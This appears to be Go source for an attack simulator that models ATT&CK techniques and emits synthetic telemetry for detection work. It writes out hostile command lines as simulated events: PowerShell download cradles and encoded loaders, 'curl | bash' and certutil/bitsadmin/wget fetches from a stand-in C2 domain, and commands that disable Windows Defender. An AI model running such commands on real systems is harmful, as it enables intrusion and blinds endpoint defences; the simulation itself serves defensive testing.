package technique

import (
	"encoding/base64"
	"fmt"
	"time"
	"unicode/utf16"

	"hemostat/sim"
	"hemostat/sim/world"
)

var execution = []*Technique{
	{
		ID: "T1059.001", Name: "Command and Scripting Interpreter: PowerShell", Tactic: "execution", Platforms: []string{"windows"},
		Needs: "a foothold on Windows", Effect: "tools are loaded into memory",
		Telemetry: []string{"windows/sysmon 1 7", "windows/powershell 4104"}, Tools: []string{"encoded command", "download cradle", "unmanaged runspace"}, Takes: sim.LogNormal(40*time.Second, 0.7), Success: 0.97,
		ready: needWindows, run: runPowerShell,
	},
	{
		ID: "T1059.004", Name: "Command and Scripting Interpreter: Unix Shell", Tactic: "execution", Platforms: []string{"linux"},
		Needs: "a session on Linux", Effect: "a script of the attacker has run",
		Telemetry: []string{"linux/auditd"}, Tools: []string{"curl pipe bash", "script in /dev/shm"}, Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
		ready: needLinux, run: runShell,
	},
	{
		ID: "T1105", Name: "Ingress Tool Transfer", Tactic: "command-and-control", Platforms: []string{"windows", "linux"},
		Needs: "a foothold with a way out", Effect: "tools lie on the host",
		Telemetry: []string{"windows/sysmon 1 3 11 22", "linux/auditd", "zeek", "proxy"}, Tools: []string{"certutil", "bitsadmin", "powershell"}, Takes: sim.LogNormal(time.Minute, 0.8), Success: 0.97,
		ready: needFoothold, run: fetchTools,
	},
	{
		ID: "T1071.001", Name: "Application Layer Protocol: Web Protocols", Tactic: "command-and-control", Platforms: []string{"windows", "linux"},
		Needs: "an implant", Effect: "the implant calls home at intervals",
		Telemetry: []string{"zeek/conn", "zeek/ssl", "windows/sysmon 3"}, Tools: []string{"60 s", "300 s with jitter"}, Takes: sim.LogNormal(time.Minute, 0.5), Success: 0.99,
		ready: needFoothold, run: callHome,
	},
	{
		ID: "T1562.001", Name: "Impair Defenses: Disable or Modify Tools", Tactic: "defense-evasion", Platforms: []string{"windows"},
		Needs: "an elevated foothold on Windows", Effect: "the endpoint agent on the host may be silent from then on",
		Telemetry: []string{"windows/sysmon 1 13", "windows/powershell 4104"}, Tools: []string{"Set-MpPreference", "registry", "service stop"}, Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.8,
		ready: needElevated, run: impairDefences,
	},
}

// encoded is a script as powershell -enc takes it: base64 of UTF-16LE.
func encoded(script string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(script)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// start runs a program from a foothold.
func (a *Attempt) start(f *Foothold, b *world.Binary, line string) *world.Process {
	s := world.Start{Host: f.Host, Account: f.Account, Binary: b, CommandLine: line}
	if f.Elevated {
		s.Integrity = "High"
	}
	if f.Implant != nil {
		s.Parent = f.Implant.Process
	}
	return a.World.StartProcess(a.Now, a.Actor, s)
}

func runPowerShell(a *Attempt) Progress {
	f := a.Where(true, false)
	if f == nil {
		return failure("%s", errNoWindows)
	}
	c2 := a.C2()
	switch a.Tool {
	case "encoded command":
		script := "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()"
		a.start(f, world.PowerShell, "powershell.exe -nop -w hidden -enc "+encoded(script))
		a.World.RunScript(a.Now+time.Second, a.Actor, f.Host, script)
	case "download cradle":
		script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/a')", c2.Domain)
		p := a.start(f, world.PowerShell, `powershell.exe -c "`+script+`"`)
		a.World.RunScript(a.Now+time.Second, a.Actor, f.Host, script)
		if r := a.World.Reach(world.At(f.Host), c2, 443); !r.OK() {
			return blocked(r)
		}
		a.World.Flow(a.Now+2*time.Second, a.Actor, world.Flow{From: world.At(f.Host), To: c2, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 900e3, Duration: 2 * time.Second})
	default:
		p := a.start(f, world.Rundll32, "rundll32.exe")
		a.World.LoadImage(a.Now+time.Second, a.Actor, p, automation)
	}
	return success("tools loaded on %s", f.Host.Name)
}

var automation = &world.Binary{Path: `C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\d14b0ad9\System.Management.Automation.ni.dll`, OriginalName: "System.Management.Automation.dll", Company: "Microsoft Corporation", Product: "Microsoft (R) Windows (R) Operating System", Description: "System.Management.Automation", Version: "10.0.17763.1", Signed: true}

func runShell(a *Attempt) Progress {
	f := a.Where(false, false)
	if f == nil {
		return failure("%s", errNoLinux)
	}
	to := a.C2()
	if a.Tool == "curl pipe bash" {
		if r := a.World.Reach(world.At(f.Host), to, 443); !r.OK() {
			return blocked(r)
		}
		a.start(f, world.Bash, "bash -c curl -fsSL https://"+to.Domain+"/x.sh|bash")
		a.start(f, world.Curl, "curl -fsSL https://"+to.Domain+"/x.sh")
		a.World.Resolve(a.Now, a.Actor, f.Host, nil, to.Domain, "A", to.Address)
		a.World.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Sent: 900, Received: 30e3, Duration: time.Second})
	} else {
		a.start(f, world.Chmod, "chmod +x /dev/shm/.x")
		a.start(f, &world.Binary{Path: "/dev/shm/.x"}, "/dev/shm/.x")
	}
	return success("script ran on %s", f.Host.Name)
}

func fetchTools(a *Attempt) Progress {
	f := a.Current()
	if f == nil {
		return failure("%s", errNoFoothold)
	}
	to := a.C2()
	a.World.Resolve(a.Now, a.Actor, f.Host, nil, to.Domain, "A", to.Address)
	if r := a.World.Reach(world.At(f.Host), to, 443); !r.OK() {
		return blocked(r)
	}
	url := "https://" + to.Domain + "/tools/agent.bin"
	var p *world.Process
	switch {
	case !f.Host.Windows():
		p = a.start(f, world.Wget, "wget -q "+url+" -O /tmp/.agent")
		a.start(f, world.Chmod, "chmod 777 /tmp/.agent")
	case a.Tool == "certutil":
		p = a.start(f, world.Certutil, "certutil.exe -urlcache -split -f "+url+` C:\Users\Public\agent.exe`)
		a.World.CreateFile(a.Now+3*time.Second, a.Actor, p, `C:\Users\Public\agent.exe`)
	case a.Tool == "bitsadmin":
		p = a.start(f, world.Bitsadmin, "bitsadmin.exe /transfer job /download /priority high "+url+` C:\Users\Public\agent.exe`)
		a.World.CreateFile(a.Now+9*time.Second, a.Actor, p, `C:\Users\Public\agent.exe`)
	default:
		p = a.start(f, world.PowerShell, `powershell.exe -c "Invoke-WebRequest `+url+` -OutFile C:\Users\Public\agent.exe"`)
		a.World.CreateFile(a.Now+3*time.Second, a.Actor, p, `C:\Users\Public\agent.exe`)
	}
	a.World.Flow(a.Now+time.Second, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 3e6, Duration: 4 * time.Second})
	a.World.TLS(a.Now+time.Second, a.Actor, world.At(f.Host), to, 443, to.Domain, a.Hello, "CN="+to.Domain, "CN="+to.Domain, false)
	return success("tools fetched to %s", f.Host.Name)
}

// callHome is the implant's beacon for a while: intervals with jitter that only
// shortens them (Fox-IT 2020).
func callHome(a *Attempt) Progress {
	f := a.Current()
	if f == nil {
		return failure("%s", errNoFoothold)
	}
	to := a.C2()
	if r := a.World.Reach(world.At(f.Host), to, 443); !r.OK() {
		return blocked(r)
	}
	if a.Round == 0 {
		a.Count = 10 + a.Rand.IntN(20)
		a.World.Resolve(a.Now, a.Actor, f.Host, nil, to.Domain, "A", to.Address)
	}
	var p *world.Process
	if f.Implant != nil {
		p = f.Implant.Process
	}
	a.World.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Process: p, Sent: 600 + uint64(a.Rand.IntN(80)), Received: 900 + uint64(a.Rand.IntN(200)), Duration: time.Second})
	a.World.TLS(a.Now, a.Actor, world.At(f.Host), to, 443, to.Domain, a.Hello, "CN="+to.Domain, "CN="+to.Domain, false)
	if a.Round >= a.Count {
		return success("%d calls home from %s", a.Round+1, f.Host.Name)
	}
	interval, jitter := time.Minute, 0.0
	if a.Tool == "300 s with jitter" {
		interval, jitter = 5*time.Minute, 0.4
	}
	return again(time.Duration(float64(interval) * (1 - jitter*a.Rand.Float64())))
}

func impairDefences(a *Attempt) Progress {
	f := a.Where(true, true)
	if f == nil {
		return failure("%s", errNotElevated)
	}
	switch a.Tool {
	case "Set-MpPreference":
		line := "Set-MpPreference -DisableRealtimeMonitoring $true"
		a.start(f, world.PowerShell, `powershell.exe -c "`+line+`"`)
		a.World.RunScript(a.Now+time.Second, a.Actor, f.Host, line)
	case "registry":
		p := a.start(f, world.Reg, `reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`)
		a.World.SetRegistryValue(a.Now+time.Second, a.Actor, p, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, "DWORD (0x00000001)")
	default:
		a.start(f, world.Sc, "sc stop WinDefend")
	}
	if a.failed {
		return failure("tamper protection on %s held", f.Host.Name)
	}
	f.Host.Agent = false
	return success("the agent on %s is silent", f.Host.Name)
}
